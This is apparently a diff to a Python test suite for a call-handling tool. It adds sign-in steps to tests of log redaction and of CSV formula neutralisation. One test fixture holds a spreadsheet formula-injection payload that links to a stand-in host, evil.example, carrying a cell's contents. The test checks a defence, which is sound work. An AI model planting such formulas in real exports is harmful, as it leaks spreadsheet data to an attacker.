@@ -19,6 +19,7 @@ from callhandler.logfile import LogSafe, logging_to, private_record
 from callhandler.services import history
 from callhandler.spreadsheet import safe_cell
 from callhandler.storage.engine import Database
+from signin_helpers import sign_in_as
 
 NAME = "Jane Doughty"
 NUMBER = "07700 900456"
@@ -111,6 +112,7 @@ def test_a_failing_command_is_logged_without_the_name_or_number_typed(
 
     monkeypatch.setattr(history, "find_previous_calls", failing_look_up)
     data = tmp_path / "d"
+    sign_in_as(monkeypatch, db_url, "hand1", "handler", data_dir=data)
     argv = ["lookup", "--phone", NUMBER, "--name", NAME, "--db", db_url, "--data-dir", str(data)]
     assert main(argv) == 1
     err = capsys.readouterr().err
@@ -168,8 +170,9 @@ def test_safe_cell(cell: str, shown: str) -> None:
 
 
 def test_report_csv_neutralises_formulas_like_the_window(
-    db: Database, db_url: str, capsys, tmp_path: Path
+    db: Database, db_url: str, capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    sign_in_as(monkeypatch, db_url, "insp1", "inspector")
     today = dt.datetime.now(dt.UTC)
     suspect = ("suspect", '=HYPERLINK("http://evil.example/?"&A1,"open")', dt.date(1980, 1, 1))
     for number, ref in enumerate(("F-1", "F-2")):
